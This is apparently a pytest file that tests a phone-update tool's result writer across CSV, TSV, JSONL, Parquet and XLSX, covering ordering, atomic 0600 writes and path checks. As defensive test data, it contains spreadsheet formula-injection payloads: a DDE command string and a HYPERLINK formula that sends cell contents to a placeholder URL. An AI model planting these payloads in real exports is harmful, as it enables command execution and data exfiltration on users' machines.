"""The writer: last row of each row number, rows ascending, every format round-trips, atomic
and 0600."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from batchphone.errors import OutputError
from batchphone.files import writer
from batchphone.files.writer import check_output_path, write_results, write_rows
from batchphone.models import RESULT_COLUMNS, Reason, ResultCells, RowResult, Status

FORMATS = ["csv", "tsv", "jsonl", "ndjson", "parquet", "xlsx"]


def _record(row: int, **changes: Any) -> ResultCells:
    result = RowResult(
        row=row,
        login_id=f"user{row}@example.com",
        phone_input="+44 20 7946 0958",
        phone="+442079460958",
        status=Status.UPDATED,
        http_status=200,
        attempts=1,
        user_id=f"U{row}",
        verified_phone=True,
        user_json=f'{{"userId":"U{row}","phone":"+442079460958"}}',
        finished_at="2026-11-28T01:02:03Z",
    )
    return result.cells()._replace(**changes)


def _read(path: Path) -> list[dict[str, Any]]:
    """The written file back as dicts of the values a reader of that format sees."""
    suffix = path.suffix
    if suffix in (".csv", ".tsv"):
        frame = pl.read_csv(path, separator="\t" if suffix == ".tsv" else ",", infer_schema=False)
        return frame.to_dicts()
    if suffix in (".jsonl", ".ndjson"):
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    if suffix == ".parquet":
        return pl.read_parquet(path).to_dicts()
    import openpyxl  # type: ignore[import-untyped]  # here: not at every worker's collection

    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], values, strict=True)) for values in rows[1:]]


def _texts(rows: list[dict[str, Any]], column: str) -> list[Any]:
    return [row[column] for row in rows]


@pytest.mark.parametrize("fmt", FORMATS)
def test_round_trip_keeps_last_record_per_row_in_row_order(tmp_path: Path, fmt: str) -> None:
    redo = _record(
        2,
        status="failed",
        reason=Reason.RETRIES_EXHAUSTED.value,
        http_status=503,
        attempts=4,
        verified_phone=None,
        user=None,
        phone=None,
        user_id=None,
    )
    records = [_record(3), _record(1), _record(2), _record(4), redo]
    out = tmp_path / f"result.{fmt}"
    assert write_results(iter(records), out) == 4
    rows = _read(out)
    assert list(rows[0]) == list(RESULT_COLUMNS)
    assert [str(row["row"]) for row in rows] == ["1", "2", "3", "4"]
    assert _texts(rows, "status") == ["updated", "failed", "updated", "updated"]
    assert _texts(rows, "phone")[:3] == ["+442079460958", None, "+442079460958"]
    assert _texts(rows, "phone_input")[0] == "+44 20 7946 0958"
    assert _texts(rows, "user")[0] == '{"userId":"U1","phone":"+442079460958"}'
    if fmt in ("jsonl", "ndjson", "parquet", "xlsx"):
        # typed formats keep real types: ints, booleans and nulls (Excel: booleans as text)
        assert _texts(rows, "row") == [1, 2, 3, 4]
        assert _texts(rows, "http_status")[:2] == [200, 503]
        flag = "true" if fmt == "xlsx" else True
        assert _texts(rows, "verified_phone")[:2] == [flag, None]
        assert _texts(rows, "reason")[:2] == [None, "RETRIES_EXHAUSTED"]
    else:
        assert _texts(rows, "verified_phone")[:2] == ["true", None]
        assert _texts(rows, "attempts")[:2] == ["1", "4"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert sorted(os.listdir(tmp_path)) == [out.name]  # no temp file, no spilled run left


def test_parquet_schema_is_typed(tmp_path: Path) -> None:
    out = tmp_path / "result.parquet"
    write_results([_record(1), _record(2, verified_phone=None, http_status=None)], out)
    schema = pl.read_parquet_schema(out)
    assert schema["row"] == pl.Int64 and schema["http_status"] == pl.Int64
    assert schema["attempts"] == pl.Int64 and schema["verified_phone"] == pl.Boolean
    assert schema["line"] == pl.Int64
    others = set(RESULT_COLUMNS) - {"row", "line", "http_status", "attempts", "verified_phone"}
    assert {schema[name] for name in others} == {pl.String}


def test_parquet_is_written_in_row_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writer, "_PARQUET_ROWS", 100)
    out = tmp_path / "result.parquet"
    assert write_results((_record(row) for row in range(1, 1001)), out) == 1000
    frame = pl.read_parquet(out)
    assert frame["row"].to_list() == list(range(1, 1001))


def test_xlsx_cells_are_text_header_bold_frozen_filtered_and_fitted(tmp_path: Path) -> None:
    out = tmp_path / "result.xlsx"
    long_error = "x" * 500
    records = [
        _record(1, loginId="=HYPERLINK(1)", phone_input="0044 20 7946 0958"),
        _record(2, error_message=long_error, verified_phone=False),
    ]
    write_results(records, out)
    import openpyxl  # type: ignore[import-untyped]

    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = {cell.value: cell for cell in sheet[1]}
    assert all(cell.font.b for cell in header.values())
    assert sheet.freeze_panes == "A2"
    last = openpyxl.utils.get_column_letter(len(RESULT_COLUMNS))
    assert sheet.auto_filter.ref == f"A1:{last}3"
    widths = {
        name: sheet.column_dimensions[cell.column_letter].width for name, cell in header.items()
    }
    assert widths["error_message"] == pytest.approx(60, abs=1)  # as wide as it needs, capped
    assert widths["loginId"] >= len("user2@example.com")
    assert widths["user"] >= len('{"userId":"U1","phone":"+442079460958"}')
    assert widths["row"] < 12  # a narrow column stays narrow
    column = {name: cell.column for name, cell in header.items()}
    cells = {name: sheet.cell(row=2, column=col) for name, col in column.items()}
    for name in ("loginId", "phone_input", "phone", "status", "user", "finished_at"):
        assert cells[name].data_type == "s", name
    assert cells["phone"].value == "+442079460958"
    assert cells["phone_input"].value == "0044 20 7946 0958"
    # a string cell is never a formula: the value as it is, no quote for a person to copy
    assert (cells["loginId"].data_type, cells["loginId"].value) == ("s", "=HYPERLINK(1)")
    assert (cells["row"].data_type, cells["row"].value) == ("n", 1)
    # booleans are text, as in CSV and as verified_before: what docs/results.md says
    assert (cells["verified_phone"].data_type, cells["verified_phone"].value) == ("s", "true")
    assert sheet.cell(row=3, column=column["verified_phone"]).value == "false"
    assert cells["reason"].value is None


def test_xlsx_refuses_more_rows_than_a_sheet_holds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writer, "XLSX_MAX_ROWS", 3)
    out = tmp_path / "result.xlsx"
    write_results([_record(row) for row in (1, 2, 3)], out)
    with pytest.raises(OutputError) as info:
        write_results([_record(row) for row in (1, 2, 3, 4)], out)
    assert str(info.value) == (
        f"{out}: more than 3 rows do not fit in an Excel sheet: write .csv or .parquet instead"
    )
    assert len(_read(out)) == 3  # the earlier result is untouched
    assert sorted(os.listdir(tmp_path)) == ["result.xlsx"]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_delimited_defuses_formulas_but_not_phones(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"result.{fmt}"
    record = _record(
        1,
        loginId="=cmd|' /C calc'!A0",
        phone_input="+44 20 7946 0958",
        error_message="@SUM(1)",
        user="\tx",
        status="-neg",
        phone="+442079460958",
    )
    write_results([record, _record(2, loginId="-5", phone_input="\rx")], out)
    rows = _read(out)
    assert rows[0]["loginId"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["error_message"] == "'@SUM(1)"
    assert rows[0]["user"] == "'\tx"
    assert rows[0]["phone_input"] == "+44 20 7946 0958"
    assert rows[0]["phone"] == "+442079460958" and rows[0]["status"] == "'-neg"
    # "-5" is phone-shaped: left as it is
    assert rows[1]["loginId"] == "-5" and rows[1]["phone_input"] == "'\rx"


def test_csv_is_rfc4180(tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    write_results([_record(1, error_message='bad "quote", and\nnewline')], out)
    raw = out.read_bytes()
    assert raw.startswith(b"row,line,loginId,") and b"\r\n" in raw and not raw.startswith(b"\xef")
    assert b'"bad ""quote"", and\nnewline"' in raw
    assert _read(out)[0]["error_message"] == 'bad "quote", and\nnewline'


def test_columns_choose_and_order_output(tmp_path: Path) -> None:
    out = tmp_path / "result.jsonl"
    rows = [
        ResultCells(2, None, None, None, None, "valid", verified="true"),
        ResultCells(1, None, None, None, None, "invalid"),
    ]
    columns = ("status", "row", "verified", "phone")
    assert write_results(rows, out, columns=columns) == 2
    assert _read(out) == [
        {"status": "invalid", "row": 1, "verified": None, "phone": None},
        {"status": "valid", "row": 2, "verified": "true", "phone": None},
    ]
    assert write_rows(sorted(rows), out, columns=("status",)) == 2
    assert _read(out) == [{"status": "invalid"}, {"status": "valid"}]
    assert write_rows(sorted(rows), out, columns=("row", "line")) == 2  # the leading columns
    assert _read(out) == [{"row": 1, "line": None}, {"row": 2, "line": None}]


def test_a_name_that_is_not_a_result_column_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    with pytest.raises(ValueError, match="not result columns: extra, ignored"):
        write_results([_record(1)], out, columns=("row", "extra", "ignored"))
    assert os.listdir(tmp_path) == []


def test_spilled_runs_merge_in_order_and_keep_the_last(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writer, "_RUN_BYTES", 20_000)  # a run of some 20 records
    spilled: list[Path] = []
    spill = writer._spill

    def watch(run: list[Any], work: Path, number: int) -> Any:
        result = spill(run, work, number)
        path = work / f"run-{number:05d}.pickle"
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert stat.S_IMODE(work.stat().st_mode) == 0o700
        spilled.append(path)
        return result

    monkeypatch.setattr(writer, "_spill", watch)

    def records() -> Iterator[ResultCells]:
        for start in range(1, 1001, 10):  # nearly sorted: blocks of 10 arrive reversed
            for row in reversed(range(start, start + 10)):
                yield _record(row, attempts=1)
        for row in range(1000, 0, -97):  # a resumed run re-did some rows, at the end
            yield _record(row, attempts=2)

    out = tmp_path / "result.csv"
    assert write_results(records(), out) == 1000
    assert len(spilled) > 10
    rows = _read(out)
    assert [int(row["row"]) for row in rows] == list(range(1, 1001))
    redone = {int(row["row"]) for row in rows if row["attempts"] == "2"}
    assert redone == set(range(1000, 0, -97))
    assert not any(path.exists() for path in spilled)
    assert sorted(os.listdir(tmp_path)) == ["result.csv"]


def test_a_failure_mid_write_leaves_the_old_file(tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    write_results([_record(1)], out)
    before = out.read_bytes()

    def broken() -> Iterator[ResultCells]:
        yield _record(1)
        raise RuntimeError("journal went away")

    with pytest.raises(RuntimeError):
        write_results(broken(), out)
    assert out.read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == ["result.csv"]


@pytest.mark.skipif(os.name == "nt", reason="no process id probe on Windows")
def test_sort_folders_a_killed_writer_left_are_removed(tmp_path: Path) -> None:
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], check=True,
                          capture_output=True, text=True)  # fmt: skip
    dead = int(gone.stdout)  # a process that has exited (kill -9 in the middle of its write)
    stale = tmp_path / f".batchphone-sort-{dead}-x1y2"
    live = tmp_path / f".batchphone-sort-{os.getppid()}-a1b2"  # a writer still at work
    for folder in (stale, live):
        folder.mkdir()
        (folder / "run-00000.pickle").write_bytes(b"rows")
    write_results([_record(1)], tmp_path / "result.csv")
    assert not stale.exists() and (live / "run-00000.pickle").exists()


def test_the_final_file_is_0600_even_when_replacing_a_public_one(tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    out.write_text("old\n")
    out.chmod(0o644)
    old_umask = os.umask(0)
    try:
        write_results([_record(1)], out)
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_no_records_writes_a_header_only_file(tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    assert write_results([], out) == 0
    assert out.read_text(encoding="utf-8").strip() == ",".join(RESULT_COLUMNS)


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("r.csv", "csv"),
        ("r.TSV", "tsv"),
        ("r.ndjson", "jsonl"),
        ("r.parquet", "parquet"),
        ("r.xlsx", "xlsx"),
    ],
)
def test_check_output_path_returns_the_format(tmp_path: Path, name: str, fmt: str) -> None:
    assert check_output_path(tmp_path / name, tmp_path / "in.csv") == fmt
    assert os.listdir(tmp_path) == []  # the probe cleaned up after itself


def test_check_output_path_errors(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("loginId,phone\n")
    link = tmp_path / "link.csv"
    link.symlink_to(source)
    hard = tmp_path / "hard.csv"
    os.link(source, hard)
    folder = tmp_path / "out.csv"
    folder.mkdir()
    formats = ".csv, .tsv, .parquet, .xlsx, .jsonl, .ndjson"
    cases = {
        tmp_path / "r.txt": f"unsupported result file type '.txt': use {formats}",
        source: "is the input file",
        link: "is a symbolic link",
        hard: "is the input file",
        tmp_path / "sub" / ".." / "in.csv": "is the input file",
        folder: "is a directory",
        tmp_path / "missing" / "r.csv": f"directory {tmp_path / 'missing'} does not exist",
    }
    for out, message in cases.items():
        with pytest.raises(OutputError) as info:
            check_output_path(out, source)
        assert str(info.value).startswith(f"{out}: ") and message in str(info.value), out


def test_check_output_path_probes_the_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(**_: Any) -> tuple[int, str]:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("tempfile.mkstemp", refuse)  # root could write anywhere
    with pytest.raises(OutputError, match=r"cannot write in .* \(Permission denied\)"):
        check_output_path(tmp_path / "r.csv", None)


EVIL = ['+HYPERLINK("http://x?"&A1,"y")', "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
def test_every_text_column_is_defused_for_spreadsheets(tmp_path: Path, fmt: str) -> None:
    """CSV and TSV get a quote before a formula; XLSX string cells hold the value itself."""
    out = tmp_path / f"result.{fmt}"
    columns = (*RESULT_COLUMNS, "phone_before", "verified_before")
    record = _record(
        1,
        loginId=EVIL[0],
        user_id=EVIL[1],
        error_message="=1+1",
        error_code="@x",
        user='+{"a":1}',
        phone_before="-1+1",
        verified_before="false",
    )
    write_results(
        [record, _record(2, loginId=EVIL[1], phone_before="+1 (415) 555-0100")],
        out,
        columns=columns,
    )
    rows = _read(out)
    quote = "" if fmt == "xlsx" else "'"
    assert rows[0]["loginId"] == quote + EVIL[0]
    assert rows[0]["user_id"] == quote + EVIL[1]
    assert rows[0]["error_message"] == quote + "=1+1"
    assert rows[0]["error_code"] == quote + "@x"
    assert rows[0]["user"] == quote + '+{"a":1}'
    assert rows[0]["phone_before"] == quote + "-1+1"  # not phone-shaped: a + inside
    assert rows[1]["loginId"] == quote + EVIL[1]
    # phone-shaped values stay exact
    assert rows[0]["phone"] == "+442079460958"
    assert rows[0]["phone_input"] == "+44 20 7946 0958"
    assert rows[1]["phone_before"] == "+1 (415) 555-0100"


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_formats_for_programs_are_written_as_they_are(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"result.{fmt}"
    write_results([_record(1, loginId=EVIL[0])], out)
    assert _read(out)[0]["loginId"] == EVIL[0]


def test_a_symlink_at_the_result_path_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "result.csv"
    out.symlink_to(victim)
    with pytest.raises(OutputError, match="is a symbolic link"):
        write_results([_record(1)], out)
    assert out.is_symlink() and victim.read_text() == "precious\n"
    assert sorted(os.listdir(tmp_path)) == ["result.csv", "victim.txt"]


def test_rows_in_order_join_the_sorted_records_without_a_sort(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stopped run's unreached rows (``in_order``) merge with the journal's records by row;
    they never go through the sort (a stop of a long file costs one pass, not a sort)."""
    sorted_records: list[int] = []
    real = writer._sorted_runs

    def counting(rows: Any, project: Any, work: Path) -> Any:
        def seen() -> Iterator[ResultCells]:
            for cells in rows:
                sorted_records.append(cells.row)
                yield cells

        return real(seen(), project, work)

    monkeypatch.setattr(writer, "_sorted_runs", counting)
    journal = [_record(5), _record(2), _record(5, status="failed")]
    unreached = (
        RowResult(row, f"user{row}@example.com", "x", None, Status.NOT_ATTEMPTED).cells()
        for row in (1, 3, 4, 6, 7)
    )
    out = tmp_path / "r.csv"
    assert write_results(journal, out, in_order=unreached) == 7
    rows = _read(out)
    assert [int(r["row"]) for r in rows] == [1, 2, 3, 4, 5, 6, 7]
    assert _texts(rows, "status") == [
        "not_attempted",
        "updated",
        "not_attempted",
        "not_attempted",
        "failed",  # the last journal record of the row
        "not_attempted",
        "not_attempted",
    ]
    assert sorted_records == [5, 2, 5]  # only the journal's records were sorted


@pytest.mark.parametrize(
    ("full", "brief"), [("csv", "xlsx"), ("parquet", "csv"), ("xlsx", "jsonl")]
)
def test_a_short_sheet_is_the_same_rows_in_a_second_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, full: str, brief: str
) -> None:
    monkeypatch.setattr(writer, "_RUN_BYTES", 2_000)  # spilled sort runs too
    monkeypatch.setattr(writer, "_BLOCK", 7)  # several spilled blocks of the short sheet
    out, short = tmp_path / f"result.{full}", tmp_path / f"short.{brief}"
    records = [_record(row, line=row + 1) for row in range(60, 0, -1)]
    records.append(_record(5, status="failed", line=6))  # the last record of a row wins
    sheet = writer.ShortSheet(short, ("status", "row", "phone_before", "line"))
    assert write_results(records, out, short=sheet) == 60
    rows, brief_rows = _read(out), _read(short)
    assert list(rows[0]) == list(RESULT_COLUMNS)  # the result keeps every column
    assert list(brief_rows[0]) == ["status", "row", "phone_before", "line"]
    assert [(str(r["status"]), str(r["row"]), str(r["line"])) for r in brief_rows] == [
        (str(r["status"]), str(r["row"]), str(r["line"])) for r in rows
    ]
    assert brief_rows[4]["status"] == "failed" and brief_rows[0]["phone_before"] is None
    assert stat.S_IMODE(short.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([out.name, short.name])


def test_short_sheet_paths(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    assert writer.short_sheet(out, None, None) is None
    assert writer.short_sheet(None, None, ("row",)) is None  # validate without --out
    beside = writer.short_sheet(out, None, ("row", "status"))
    assert beside == writer.ShortSheet(tmp_path / "r.short.csv", ("row", "status"))
    named = writer.short_sheet(out, tmp_path / "s.xlsx", None)
    assert named == writer.ShortSheet(tmp_path / "s.xlsx", writer.SHORT_COLUMNS)
